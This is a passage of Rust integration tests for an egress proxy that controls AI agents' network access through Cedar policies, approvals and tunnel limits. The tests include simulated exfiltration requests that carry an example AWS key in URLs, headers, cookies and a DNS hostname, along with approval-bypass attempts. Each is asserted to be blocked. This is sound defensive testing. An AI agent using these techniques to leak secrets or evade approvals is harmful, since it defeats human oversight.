  action in [Action::"egress:connect", Action::"egress:request"],
  resource
)
when { context.addresses.contains(ip("127.0.0.1")) };
"#;
    warden.write_policy("by-address.cedar", by_address).unwrap();
    let looked_up = async {
        loop {
            let got = curl(proxy, Some(&token), &[&format!("http://{exfil}/")])
                .await
                .unwrap();
            assert_eq!(got.status, 403, "{got:?}");
            if queried("exfil") {
                return got;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    };
    let got = tokio::time::timeout(Duration::from_secs(20), looked_up)
        .await
        .expect("once a policy reads context.addresses, the name is looked up");
    assert!(
        got.body.contains("no policy permits") || got.body.contains("not to loopback"),
        "{got:?}"
    );
    assert_eq!(http.seen().len(), 1, "only allowed.test arrived");
}

#[tokio::test]
async fn what_a_tunnel_carries_may_not_ask_for_an_approval_it_was_not_given() {
    use std::sync::atomic::Ordering;
    use tokio::io::AsyncWriteExt;

    let (port, received) = raw_service().await;
    let dns = Dns::start(json!({"allowed.test": [["127.0.0.1"]]}))
        .await
        .unwrap();
    // TLS tunnels are allowed outright; a raw TCP tunnel needs an approval.
    let policies = r#"
@id("egress-tls-tunnels")
@egress("internal")
permit (principal is Agent, action == Action::"egress:connect", resource == Host::"allowed.test")
when { context.scheme == "connect" || context.scheme == "https" };

@id("egress-raw-tcp-needs-approval")
@egress("internal")
@approval("required")
@approvers("Group::\"sre\"")
permit (principal is Agent, action == Action::"egress:connect", resource == Host::"allowed.test")
when { context.scheme == "tcp" };
"#;
    let (warden, proxy) = warden(&dns, &[("egress.cedar", policies)]).await;
    let token = warden.token("build-bot").await.unwrap();

    // The CONNECT itself is allowed without an approval; its first bytes are neither TLS nor
    // HTTP, which needs an approval the tunnel was never given: it closes, nothing passes.
    let mut stream = tunnel_to(proxy, port, &token).await;
    stream
        .write_all(b"\x00\x01\x02 a binary protocol's hello")
        .await
        .unwrap();
    assert_closed(&mut stream).await;
    tunnel_closed(
        &warden,
        "needs an approval",
        "needs an approval under policy egress-raw-tcp-needs-approval",
        "egress_tunnel_denied",
    )
    .await;
    assert_eq!(
        received.load(Ordering::SeqCst),
        0,
        "no byte reached the service"
    );
}

#[tokio::test]
async fn secrets_and_canaries_in_a_plain_http_requests_url_or_any_header_are_findings() {
    let http = Origin::start(LOOPBACK, 0, None).await.unwrap();
    let port = http.addr.port();
    let dns = Dns::start(json!({"allowed.test": [["127.0.0.1"]]}))
        .await
        .unwrap();
    let no_aws_keys = r#"
@id("egress-no-aws-keys")
@reason("an AWS key leaves")
forbid (principal, action, resource)
when { context.findings.contains("aws_access_key") };
"#;
    let (warden, proxy, token) = allowlist_and(&dns, ("no-aws.cedar", no_aws_keys)).await;
    let key = "AKIAIOSFODNN7EXAMPLE";
    let url = format!("http://allowed.test:{port}/");
    // In the query (percent-encoded or not), in a header of the agent's choosing, and in
    // `Authorization` and `Cookie`, which reach the destination as the agent wrote them:
    // denied.
    for args in [
        vec![format!("{url}keys/{key}/sendMessage")],
        vec![format!("{url}?k={key}")],
        vec![format!("{url}?k=%41KIAIOSFODNN7EXAMPLE")],
        vec![url.clone(), "-H".into(), format!("X-D: {key}")],
        vec![
            url.clone(),
            "-H".into(),
            format!("Authorization: AWS4-HMAC-SHA256 Credential={key}/x"),
        ],
        vec![url.clone(), "-H".into(), format!("Cookie: session={key}")],
    ] {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let got = curl(proxy, Some(&token), &args).await.unwrap();
        assert_eq!(got.status, 403, "{args:?}: {got:?}");
        assert!(got.body.contains("an AWS key leaves"), "{args:?}: {got:?}");
    }
    // The agent's Warden token in `Proxy-Authorization` is Warden's, and never leaves: no
    // finding, and a request without secrets goes through.
    let got = curl(proxy, Some(&token), &[&url, "-H", "Cookie: session=plain"])
        .await
        .unwrap();
    assert_eq!(got.status, 200, "{got:?}");
    let denied: Vec<Value> = records_for(&warden, "allowed.test")
        .into_iter()
        .filter(|r| r["kind"] == "decision" && r["decision"] == "deny")
        .collect();
    assert_eq!(denied.len(), 6, "{denied:?}");
    let located: Vec<String> = denied
        .iter()
        .flat_map(|r| r["findings"].as_array().cloned().unwrap_or_default())
        .filter_map(|f| f["location"].as_str().map(str::to_owned))
        .collect();
    for header in ["header x-d", "header authorization", "header cookie"] {
        assert!(
            located.iter().any(|l| l.starts_with(header)),
            "{header}: {located:?}"
        );
    }
    assert_eq!(
        located.iter().filter(|l| l.starts_with("url")).count(),
        3,
        "{located:?}"
    );
    let text = denied
        .iter()
        .map(|r| r.to_string())
        .collect::<Vec<_>>()
        .join("\n");
    // Neither is the key itself recorded, nor a path a secret was found in.
    assert!(!text.contains(key), "{text}");
    assert!(!text.contains("sendMessage"), "{text}");
    assert_eq!(
        http.seen().len(),
        1,
        "only the request without secrets arrived"
    );

    // A canary token in `Cookie`: denied whatever policy says, recorded without its value.
    let canary = warden.issue_canary("api-token", &[]).await.unwrap();
    let cookie = format!("Cookie: session={}", canary.trim());
    // Until Warden reads the new canary from the state store, the request goes through.
    let deadline = tokio::time::Instant::now() + WAIT;
    let got = loop {
        let got = curl(proxy, Some(&token), &[&url, "-H", &cookie])
            .await
            .unwrap();
        if got.status == 403 || tokio::time::Instant::now() > deadline {
            break got;
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    assert!(got.body.contains("canary token"), "{got:?}");
    let record = warden
        .wait_for_audit(WAIT, |r| {
            r["kind"] == "decision" && r.to_string().contains("\"canary\"")
        })
        .await
        .expect("the canary's decision");
    assert_eq!(record["action"], "egress:request", "{record}");
    assert_eq!(
        record["policies"],
        json!(["warden/canary-token"]),
        "{record}"
    );
    let log = serde_json::to_string(&warden.audit_records()).unwrap();
    assert!(
        !log.contains(canary.trim()),
        "the canary's value is recorded"
    );
}

#[tokio::test]
async fn a_secret_in_a_plain_http_urls_host_is_refused_before_it_is_looked_up() {
    let http = Origin::start(LOOPBACK, 0, None).await.unwrap();
    let port = http.addr.port();
    // The DNS server would answer for the name that carries the key: a query for it, or the
    // request sent to it, would leak the key.
    let name = "akiaiosfodnn7example.exfil.test";
    let dns = Dns::start(json!({name: [["127.0.0.1"]], "ok.exfil.test": [["127.0.0.1"]]}))
        .await
        .unwrap();
    let policies = r#"
@id("egress-exfil-test")
@egress("internal")
permit (principal is Agent, action in [Action::"egress:connect", Action::"egress:request"], resource)
when { resource.name like "*.exfil.test" };

@id("egress-no-aws-keys")
@reason("an AWS key leaves")
forbid (principal, action, resource)
when { context.findings.contains("aws_access_key") };
"#;
    let (warden, proxy, token) = allowlist_and(&dns, ("exfil.cedar", policies)).await;
    let got = curl(proxy, Some(&token), &[&format!("http://{name}:{port}/")])
        .await
        .unwrap();
    assert_eq!(got.status, 403, "{got:?}");
    assert!(got.body.contains("an AWS key leaves"), "{got:?}");
    // A name without a secret goes, as always.
    let got = curl(
        proxy,
        Some(&token),
        &[&format!("http://ok.exfil.test:{port}/")],
    )
    .await
    .unwrap();
    assert_eq!(got.status, 200, "{got:?}");
    assert!(
        !dns.queries().iter().any(|q| q["name"] == name),
        "the name with the key was looked up: {:?}",
        dns.queries()
    );
    assert_eq!(http.seen().len(), 1, "only ok.exfil.test arrived");
    let record = records_for(&warden, name)
        .into_iter()
        .find(|r| r["kind"] == "decision")
        .expect("the decision");
    assert_eq!(record["decision"], "deny", "{record}");
    assert_eq!(
        record["detail"]["egress"]["addresses"],
        json!([]),
        "{record}"
    );
    assert_eq!(
        record["findings"][0]["location"], "url host, byte 0",
        "{record}"
    );

    // A forbid that redacts cannot redact a host: the request is still denied, and the name
    // is not looked up for the redaction's sake either.
    let redacting = policies.replace(
        "@reason(\"an AWS key leaves\")",
        "@reason(\"AWS keys are redacted\")\n@on_match(\"redact\")",
    );
    warden.write_policy("exfil.cedar", &redacting).unwrap();
    let url = format!("http://{name}:{port}/");
    let body = "k=AKIAIOSFODNN7EXAMPLE";
    let redacted = async {
        loop {
            let got = curl(proxy, Some(&token), &[&url, "--data", body])
                .await
                .unwrap();
            if got.body.contains("AWS keys are redacted") {
                return got;
            }
            tokio::time::sleep(Duration::from_millis(200)).await;
        }
    };
    let got = tokio::time::timeout(Duration::from_secs(20), redacted)
        .await
        .expect("the redacting policy is loaded");
    assert_eq!(got.status, 403, "{got:?}");
    assert!(
        !dns.queries().iter().any(|q| q["name"] == name),
        "the name with the key was looked up: {:?}",
        dns.queries()
    );
    assert_eq!(http.seen().len(), 1, "only ok.exfil.test arrived");
}

#[tokio::test]
async fn a_tunnel_that_carries_nothing_for_the_idle_timeout_is_closed() {
    use tokio::io::AsyncWriteExt;
    // Accepts and never writes.
    let (port, _received) = raw_service().await;
    let dns = Dns::start(json!({"allowed.test": [["127.0.0.1"]]}))
        .await
        .unwrap();
    let (warden, egress) = warden_with(
        &dns,
        &[("egress.cedar", ALLOWLIST)],
        &[("/egress/tunnel_idle_timeout", json!("1s"))],
    )
    .await;
    let token = warden.token("build-bot").await.unwrap();
    let (mut stream, head) = open_tunnel(egress, &format!("allowed.test:{port}"), &token)
        .await
        .unwrap();
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    stream.write_all(b"\x00 a quiet protocol").await.unwrap();
    assert_closed(&mut stream).await;
    tunnel_closed(
        &warden,
        "without a byte either way",
        "closed after 1s without a byte either way (egress.tunnel_idle_timeout)",
        "egress_tunnel_idle",
    )
    .await;
}

#[tokio::test]
async fn an_egress_approval_binds_to_the_method_path_query_and_headers_it_was_asked_for() {
    let http = Origin::start(LOOPBACK, 0, None).await.unwrap();
    let port = http.addr.port();
    let dns = Dns::start(json!({"allowed.test": [["127.0.0.1"]]}))
        .await
        .unwrap();
    let needs_approval = r#"
@id("egress-needs-approval")
@egress("internal")
@approval("required")
@approvers("Group::\"sre\"")
permit (principal is Agent, action == Action::"egress:request", resource == Host::"allowed.test");
"#;
    let approvals =
        json!({"mode": "pending", "operators": [{"subject": "alice", "groups": ["sre"]}]});
    let (warden, egress) = warden_with(
        &dns,
        &[("egress.cedar", needs_approval)],
        &[("/approvals", approvals)],
    )
    .await;
    let token = warden.token("build-bot").await.unwrap();
    let base = format!("http://allowed.test:{port}");
    // The approval a request is held for, from the answer.
    let held = |args: Vec<String>| {
        let token = token.clone();
        async move {
            let args: Vec<&str> = args.iter().map(String::as_str).collect();
            let got = curl(egress, Some(&token), &args).await.unwrap();
            assert!(
                got.body.contains("holds this egress for approval"),
                "{args:?}: {got:?}"
            );
            let at = got.body.find("apr_").expect("an approval id");
            got.body[at..at + 36].to_owned()
        }
    };
    let health = held(vec![format!("{base}/health")]).await;
    // The same request joins its approval; another method, path or query is another action
    // with an approval of its own, so an approval of `GET /health` cannot let `DELETE /all`
    // (with the same empty body) through.
    assert_eq!(held(vec![format!("{base}/health")]).await, health);
    for other in [
        vec!["-X".to_owned(), "DELETE".to_owned(), format!("{base}/all")],
        vec![format!("{base}/admin")],
        vec![format!("{base}/health?drop=all")],
        // The headers that change what it does too: whose request it is, how its body reads.
        vec![
            "-H".to_owned(),
            "Authorization: Bearer someone-else".to_owned(),
            format!("{base}/health"),
        ],
        vec![
            "-H".to_owned(),
            "Cookie: session=admin".to_owned(),
            format!("{base}/health"),
        ],
        // An API key in a header of its own is whose request it is too.
        vec![
            "-H".to_owned(),
            "X-Api-Key: someone-elses-key".to_owned(),
            format!("{base}/health"),
        ],
        vec![
            "-H".to_owned(),
            "Content-Type: application/json".to_owned(),
            format!("{base}/health"),
        ],
    ] {
        assert_ne!(held(other.clone()).await, health, "{other:?}");
    }
    // A request that asks to be taken for another method is refused, as on REST routes.
    let url = format!("{base}/health");
    let overridden = curl(
        egress,
        Some(&token),
        &["-H", "X-HTTP-Method-Override: DELETE", &url],
    )
    .await
    .unwrap();
    assert_eq!(overridden.status, 400, "{overridden:?}");
    assert!(
        overridden
            .body
            .contains("the x-http-method-override header is refused"),
        "{overridden:?}"
    );
    assert!(http.seen().is_empty(), "nothing reached the origin");
}

#[tokio::test]
async fn open_tunnels_are_judged_again_when_policies_are_reloaded() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let (denied_port, denied_received) = raw_service().await;
    let (kept_port, kept_received) = raw_service().await;
    let dns = Dns::start(json!({"allowed.test": [["127.0.0.1"]]}))
        .await
        .unwrap();
    let (warden, egress, token) = allowlist_and(&dns, ("extra.cedar", "")).await;
    let mut tunnels = Vec::new();
    for port in [denied_port, kept_port] {
        let (mut stream, head) = open_tunnel(egress, &format!("allowed.test:{port}"), &token)
            .await
            .unwrap();
        assert!(head.starts_with("HTTP/1.1 200"), "{head}");
        stream.write_all(b"\x00 first").await.unwrap();
        tunnels.push(stream);
    }
    let (mut denied, mut kept) = (tunnels.remove(0), tunnels.remove(0));
    assert!(arrived(&denied_received, 7).await && arrived(&kept_received, 7).await);

    // The reloaded policies forbid one destination port; the open tunnel to it is closed.
    let forbid = format!(
        r#"
@id("egress-no-port")
@reason("this port is closed to agents now")
forbid (principal, action == Action::"egress:connect", resource)
when {{ context.port == {denied_port} }};
"#
    );
    warden.write_policy("extra.cedar", &forbid).unwrap();
    warden.reload(|_| {}).await.unwrap();
    assert_closed(&mut denied).await;
    tunnel_closed(
        &warden,
        "reloaded policies deny this open tunnel",
        "(policy_reloaded_denied): this port is closed to agents now (policies: egress-no-port)",
        "policy_reloaded_denied",
    )
    .await;

    // Each tunnel's first bytes were allowed in a decision record of its own (scheme tcp);
    // the reload that closed one is a deny record of its own.
    let allowed = tunnel_judgements(&warden, "allowed.test", "first_bytes");
    assert_eq!(allowed.len(), 2, "{allowed:#?}");
    for record in &allowed {
        assert_eq!(record["decision"], "allow", "{record}");
        assert_eq!(record["policies"], json!(["egress-allowed-test"]));
        assert_eq!(record["detail"]["egress"]["scheme"], "tcp");
    }
    let reloaded = tunnel_judgements(&warden, "allowed.test", "reload");
    assert_eq!(reloaded.len(), 1, "{reloaded:#?}");
    assert_eq!(reloaded[0]["decision"], "deny");
    assert_eq!(reloaded[0]["policies"], json!(["egress-no-port"]));
    assert_eq!(reloaded[0]["detail"]["egress"]["port"], denied_port);

    // The other tunnel is still allowed: it stays open and carries bytes.
    kept.write_all(b"second").await.unwrap();
    assert!(
        arrived(&kept_received, 13).await,
        "the allowed tunnel still carries"
    );
    let mut byte = [0u8; 1];
    let still_open = tokio::time::timeout(Duration::from_millis(500), kept.read(&mut byte)).await;
    assert!(
        still_open.is_err(),
        "the allowed tunnel stays open: {still_open:?}"
    );
}

/// Whether `count` reaches `n` within [`WAIT`].
async fn arrived(count: &std::sync::atomic::AtomicUsize, n: usize) -> bool {
    tokio::time::timeout(WAIT, async {
        while count.load(std::sync::atomic::Ordering::SeqCst) < n {
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    })
    .await
    .is_ok()
}

/// A TCP server on loopback that speaks first, as SSH, SMTP or MySQL do: it writes a banner,
/// then echoes what it receives. Its port.
async fn banner_service() -> u16 {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let listener = tokio::net::TcpListener::bind((LOOPBACK, 0)).await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            tokio::spawn(async move {
                if socket.write_all(b"SSH-2.0-test\r\n").await.is_err() {
                    return;
                }
                let mut buf = [0u8; 1024];
                while let Ok(n) = socket.read(&mut buf).await {
                    if n == 0 || socket.write_all(&buf[..n]).await.is_err() {
                        break;
                    }
                }
            });
        }
    });
    port
}

/// A tunnel opened through `proxy` to `allowed.test:<port>` and answered `200`.
async fn tunnel_to(proxy: SocketAddr, port: u16, token: &str) -> tokio::net::TcpStream {
    let (stream, head) = open_tunnel(proxy, &format!("allowed.test:{port}"), token)
        .await
        .unwrap();
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    stream
}

/// What arrives on `stream` within `within`, up to `n` bytes.
async fn read_some(stream: &mut tokio::net::TcpStream, n: usize, within: Duration) -> Vec<u8> {
    use tokio::io::AsyncReadExt;
    let mut got = Vec::new();
    let _ = tokio::time::timeout(within, async {
        let mut buf = [0u8; 256];
        while got.len() < n {
            match stream.read(&mut buf).await {
                Ok(0) | Err(_) => break,
                Ok(k) => got.extend_from_slice(&buf[..k]),
            }
        }
    })
    .await;
    got
}

#[tokio::test]
async fn a_server_that_speaks_first_is_reached_on_listed_ports_judged_as_tcp() {
    use tokio::io::AsyncWriteExt;
    let (ssh, tls_only, unlisted) = (
        banner_service().await,
        banner_service().await,
        banner_service().await,
    );
    let dns = Dns::start(json!({"allowed.test": [["127.0.0.1"]]}))
        .await
        .unwrap();
    // One listed port a policy lets carry anything; another where it permits TLS only.
    let tls_only_policy = format!(
        r#"
@id("egress-tls-only-here")
@reason("this port carries TLS only")
forbid (principal, action == Action::"egress:connect", resource)
when {{ context.port == {tls_only} && context.scheme != "connect" && context.scheme != "https" }};
"#
    );
    let (warden, proxy) = warden_with(
        &dns,
        &[
            ("egress.cedar", ALLOWLIST),
            ("tls-only.cedar", &tls_only_policy),
        ],
        &[
            ("/egress/server_first/ports", json!([ssh, tls_only])),
            ("/egress/server_first/wait", json!("300ms")),
        ],
    )
    .await;
    let token = warden.token("build-bot").await.unwrap();
    let banner = b"SSH-2.0-test\r\n";

    // The client waits for the server's banner, then speaks.
    let mut stream = tunnel_to(proxy, ssh, &token).await;
    assert_eq!(read_some(&mut stream, banner.len(), WAIT).await, banner);
    stream.write_all(b"SSH-2.0-client\r\n").await.unwrap();
    assert_eq!(
        read_some(&mut stream, 16, WAIT).await,
        b"SSH-2.0-client\r\n"
    );
    let judged = tunnel_judgements(&warden, "allowed.test", "server_first");
    assert_eq!(judged.len(), 1, "{judged:#?}");
    assert_eq!(judged[0]["decision"], "allow");
    assert_eq!(judged[0]["detail"]["egress"]["scheme"], "tcp");
    assert_eq!(judged[0]["detail"]["egress"]["port"], ssh);
    assert!(judged[0]["detail"]["egress"].get("sni").is_none());

    // A policy that lets only TLS through refuses it: the banner never reaches the client.
    let mut stream = tunnel_to(proxy, tls_only, &token).await;
    assert_eq!(read_some(&mut stream, banner.len(), WAIT).await, b"");
    tunnel_closed(
        &warden,
        "policy denies this tunnel",
        "this port carries TLS only (policies: egress-tls-only-here)",
        "egress_tunnel_denied",
    )
    .await;

    // A port not listed waits for the client's first bytes, as before: no banner meanwhile.
    let mut stream = tunnel_to(proxy, unlisted, &token).await;
    assert_eq!(
        read_some(&mut stream, 1, Duration::from_secs(1)).await,
        b"",
        "the unlisted port's server was not connected to a silent client"
    );
}

#[tokio::test]
async fn open_tunnels_get_the_shutdown_grace_then_are_closed_each_with_its_outcome() {
    use tokio::io::AsyncWriteExt;
    let (port, received) = raw_service().await;
    let dns = Dns::start(json!({"allowed.test": [["127.0.0.1"]]}))
        .await
        .unwrap();
    let grace = Duration::from_secs(2);
    let (mut warden, proxy) = warden_with(
        &dns,
        &[("egress.cedar", ALLOWLIST)],
        &[("/listen/shutdown_grace", json!("2s"))],
    )
    .await;
    let token = warden.token("build-bot").await.unwrap();
    let mut tunnels = Vec::new();
    for first in [&b"\x00 stays"[..], &b"\x00 leaves"[..]] {
        let mut stream = tunnel_to(proxy, port, &token).await;
        stream.write_all(first).await.unwrap();
        tunnels.push(stream);
    }
    let (mut stays, leaves) = (tunnels.remove(0), tunnels.remove(0));
    assert!(arrived(&received, 15).await);

    // Shutdown: the tunnels get the grace; one ends within it, the other outlives it.
    let stopping = std::time::Instant::now();
    warden.signal(libc::SIGTERM).unwrap();
    tokio::time::sleep(Duration::from_millis(300)).await;
    drop(leaves);
    stays.write_all(b" still carried").await.unwrap();
    assert!(
        arrived(&received, 29).await,
        "a tunnel still carries during the grace"
    );
    assert_closed(&mut stays).await;
    let status = warden.wait_exit(WAIT).await.unwrap();
    assert!(status.success(), "{status}");
    assert!(stopping.elapsed() >= grace, "{:?}", stopping.elapsed());

    let outcomes: Vec<Value> = records_for(&warden, "allowed.test")
        .into_iter()
        .filter(|r| r["kind"] == "outcome" && r["action"] == "egress:connect")
        .collect();
    assert_eq!(outcomes.len(), 2, "{outcomes:#?}");
    let cut: Vec<&Value> = outcomes
        .iter()
        .filter(|r| r["outcome"]["error"].is_string())
        .collect();
    assert_eq!(cut.len(), 1, "{outcomes:#?}");
    assert_eq!(
        cut[0]["outcome"]["error"],
        "closed: Warden is shutting down and the tunnel outlived listen.shutdown_grace"
    );
    assert_eq!(cut[0]["outcome"]["bytes_up"], 21, "{}", cut[0]);
    let stop = warden
        .audit_records()
        .into_iter()
        .position(|r| r["detail"]["event"] == "stop")
        .expect("the stop record");
    let last_outcome = warden
        .audit_records()
        .into_iter()
        .rposition(|r| r["kind"] == "outcome")
        .unwrap();
    assert!(
        last_outcome < stop,
        "the outcomes are recorded before Warden stops"
    );
}

/// Warden with `egress.max_tunnels_per_agent: 2` (and `settings`), an agent's two tunnels
/// to a raw service open, waiting for first bytes they never send while the test runs: the
/// DNS server (kept alive), Warden, its proxy, the tunnels' target, the agent's token and the
/// tunnels.
async fn two_tunnels_open(
    settings: &[(&str, Value)],
) -> (
    Dns,
    Warden,
    SocketAddr,
    String,
    String,
    [tokio::net::TcpStream; 2],
) {
    let dns = Dns::start(json!({"allowed.test": [["127.0.0.1"]]}))
        .await
        .unwrap();
    let mut all = vec![
        ("/egress/max_tunnels_per_agent", json!(2)),
        ("/egress/first_bytes_timeout", json!("120s")),
    ];
    all.extend(settings.iter().cloned());
    let (warden, proxy) = warden_with(&dns, &[("egress.cedar", ALLOWLIST)], &all).await;
    let (port, _) = raw_service().await;
    let target = format!("allowed.test:{port}");
    let token = warden.token("build-bot").await.unwrap();
    let (first, head) = open_tunnel(proxy, &target, &token).await.unwrap();
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    let (second, head) = open_tunnel(proxy, &target, &token).await.unwrap();
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    (dns, warden, proxy, target, token, [first, second])
}

#[tokio::test]
async fn an_agent_at_its_tunnel_cap_has_a_tunnel_idle_past_the_threshold_closed_for_a_new_one() {
    use tokio::io::AsyncReadExt;
    let (_dns, warden, proxy, target, token, [mut first, mut second]) =
        two_tunnels_open(&[("/egress/evict_idle_after", json!("1s"))]).await;
    // Once one of the two has carried nothing for egress.evict_idle_after (1 s, not the
    // default 30 s), a third is let in and the longest idle is closed for it.
    let deadline = tokio::time::Instant::now() + WAIT;
    let _third = loop {
        let (third, head) = open_tunnel(proxy, &target, &token).await.unwrap();
        if head.starts_with("HTTP/1.1 200") {
            break third;
        }
        assert!(head.starts_with("HTTP/1.1 429"), "{head}");
        assert!(
            tokio::time::Instant::now() < deadline,
            "no idle tunnel was closed to make room"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    tunnel_closed(
        &warden,
        "to make room",
        "closed after 1s or more without a byte either way, to make room for another of its \
         agent's tunnels (egress.max_tunnels_per_agent, egress.evict_idle_after)",
        "egress_tunnel_evicted",
    )
    .await;
    // The first opened is the longest idle: it is the one closed, the second stays open.
    assert_closed(&mut first).await;
    let mut byte = [0u8; 1];
    let still_open = tokio::time::timeout(Duration::from_millis(200), second.read(&mut byte)).await;
    assert!(
        still_open.is_err(),
        "the second tunnel stays open: {still_open:?}"
    );
}

#[tokio::test]
async fn an_agent_may_have_only_so_many_tunnels_open_at_once() {
    let (_dns, warden, proxy, target, token, [mut first, _second]) = two_tunnels_open(&[]).await;

    // A third is refused: 429, when to retry, the code, a rejected record, the metric.
    let (_, head) = open_tunnel(proxy, &target, &token).await.unwrap();
    assert!(head.starts_with("HTTP/1.1 429"), "{head}");
    let lower = head.to_ascii_lowercase();
    assert!(lower.contains("retry-after: 1"), "{head}");
    assert!(
        lower.contains("x-warden-error: concurrency_limited"),
        "{head}"
    );
    let rejected = warden
        .wait_for_audit(WAIT, |r| {
            r["kind"] == "rejected" && r["code"] == "concurrency_limited"
        })
        .await
        .unwrap();
    assert_eq!(rejected["principal"]["id"], "build-bot", "{rejected}");
    let metrics = warden.metrics().await.unwrap();
    assert!(
        metrics.contains(r#"warden_rate_limited_total{scope="agent_tunnels"} 1"#),
        "{metrics}"
    );

    // Another agent has tunnels of its own.
    let other = warden.token("deploy-bot").await.unwrap();
    let (_other, head) = open_tunnel(proxy, &target, &other).await.unwrap();
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");

    // Once one of its tunnels closes, the agent may open another.
    use tokio::io::AsyncWriteExt;
    first.shutdown().await.unwrap();
    drop(first);
    let deadline = tokio::time::Instant::now() + WAIT;
    loop {
        let (_again, head) = open_tunnel(proxy, &target, &token).await.unwrap();
        if head.starts_with("HTTP/1.1 200") {
            break;
        }
        assert!(head.starts_with("HTTP/1.1 429"), "{head}");
        assert!(
            tokio::time::Instant::now() < deadline,
            "the closed tunnel's place was never given back"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}
